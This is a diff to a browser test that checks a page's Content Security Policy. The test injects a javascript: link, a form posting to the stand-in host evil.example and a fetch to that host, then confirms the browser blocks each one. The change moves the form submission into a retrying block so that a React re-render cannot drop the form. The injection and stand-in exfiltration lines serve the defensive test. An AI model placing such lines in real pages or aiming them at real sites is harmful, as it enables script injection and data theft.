@@ -73,13 +73,20 @@ test("what got into a page's HTML neither runs nor loads nor sends anything", as
   await page.goto("/latency");
   await page.evaluate(() => {
     const link = Object.assign(document.createElement("a"), { href: "javascript:window.ran=1" });
-    const form = Object.assign(document.createElement("form"), { action: "https://evil.example/" });
-    document.body.append(link, form);
+    document.body.append(link);
     link.click();
-    form.submit();
     return fetch("https://evil.example/").catch(() => {});
   });
   const directives = () => [...new Set(refusals.map((line) => line.split(" ")[0]))].sort();
+  // Again, when the page drops the form on its way: React draws a page whose HTML is not its own anew.
+  await expect(async () => {
+    await page.evaluate(() => {
+      const form = Object.assign(document.createElement("form"), { action: "https://evil.example/" });
+      document.body.append(form);
+      form.submit();
+    });
+    expect(directives()).toContain("form-action");
+  }).toPass();
   await expect
     .poll(directives)
     .toEqual([
